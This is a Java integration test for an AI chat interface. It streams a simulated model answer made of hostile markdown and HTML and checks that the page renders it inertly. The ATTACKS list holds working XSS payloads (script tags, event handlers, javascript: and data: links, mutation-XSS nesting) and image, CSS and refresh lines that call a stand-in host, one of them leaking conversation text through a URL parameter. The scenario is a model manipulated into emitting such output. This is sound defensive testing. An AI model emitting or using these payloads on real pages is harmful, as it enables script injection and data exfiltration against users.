package dev.aistreaming.sample.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** A model that has been talked into writing what would do harm. */
@ExtendWith(InBrowser.class)
class HostileMarkdownIT {

    private static final List<String> ATTACKS = List.of(
            "<script>window.harmed = 1; alert(1)</script>",
            "<img src=x onerror=\"window.harmed = 2\">",
            "<img src=\"http://elsewhere.example/pixel.png\">",
            "![a picture](http://elsewhere.example/picture.png?what=was-said)",
            "![a picture][there]\n\n[there]: http://elsewhere.example/referred.png",
            "[press here](javascript:window.harmed=3)",
            "[press here](JaVa&#115;cript:window.harmed=4)",
            "[press here](data:text/html,<script>window.harmed=5</script>)",
            "<svg onload=\"window.harmed = 6\"><a xlink:href=\"javascript:window.harmed=7\"><text>x</text></a></svg>",
            "<iframe src=\"http://elsewhere.example/\" srcdoc=\"<script>parent.harmed = 8</script>\"></iframe>",
            "<style>@import url(http://elsewhere.example/a.css); body { display: none }</style>",
            "<link rel=stylesheet href=\"http://elsewhere.example/b.css\">",
            "<form action=\"http://elsewhere.example/\"><button autofocus onfocus=\"window.harmed = 9\">ok</button></form>",
            "<details open ontoggle=\"window.harmed = 10\"><summary>x</summary></details>",
            "<base href=\"http://elsewhere.example/\"><meta http-equiv=refresh content=\"0;url=http://elsewhere.example/\">",
            "<video src=\"http://elsewhere.example/v.mp4\" autoplay poster=\"http://elsewhere.example/p.png\"></video>",
            "<p style=\"background: url(http://elsewhere.example/c.png)\" id=question>styled</p>",
            "```\"><img src=x onerror=window.harmed=11>\ncode\n```",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"window.harmed = 12\"></style></mglyph></table></mtext></math>");

    @Test
    void doesNothingWhileItIsWrittenAndWhenItIsThere(ChatPage page, Provider provider) {
        // in small pieces: what is half there is shown, too
        provider.says((String.join("\n\n", ATTACKS) + "\n\nThe end.").split("(?<=\\G.{7})", -1));
        page.open().ask("hi");
        page.awaitAnswer("The end.");
        page.awaitEnd();
        assertThatNothingHappens(page);

        page.reload();
        page.awaitAnswer("The end.");
        assertThatNothingHappens(page);
    }

    private static void assertThatNothingHappens(ChatPage page) {
        page.run("""
                document.querySelectorAll('.answer summary').forEach((summary) => summary.click());
                document.querySelectorAll('.answer a').forEach((link) => {
                    if (/^https?:/.test(link.href)) return; // a reader may follow one
                    link.removeAttribute('target');
                    link.click();
                });""");
        // what is run or loaded because of that has been begun two frames later
        page.runAsync("""
                const done = arguments[0];
                requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done)));""");

        assertThat(page.is("return window.harmed === undefined")).isTrue();
        assertThat(page.browser().requests())
                .isNotEmpty()
                .allMatch(url -> url.startsWith("http://127.0.0.1:") || url.startsWith("data:"));
        assertThat(page.run("return document.querySelectorAll('#question').length"))
                .isEqualTo(1L);
        assertThat(page.is("return document.getElementById('question').checkVisibility()"))
                .isTrue();
        assertThat(page.run("""
                return [...document.querySelectorAll('.answer *')].flatMap((element) => [
                    ...(element.matches('script, iframe, object, embed, form, style, link, base, meta') ? [element.localName] : []),
                    ...[...element.attributes].filter(({name}) => name.startsWith('on')).map(({name}) => name),
                    ...(/^(javascript|data|vbscript):/i.test(element.href ?? '') ? [element.href] : []),
                ]);""")).isEqualTo(List.of());
    }
}
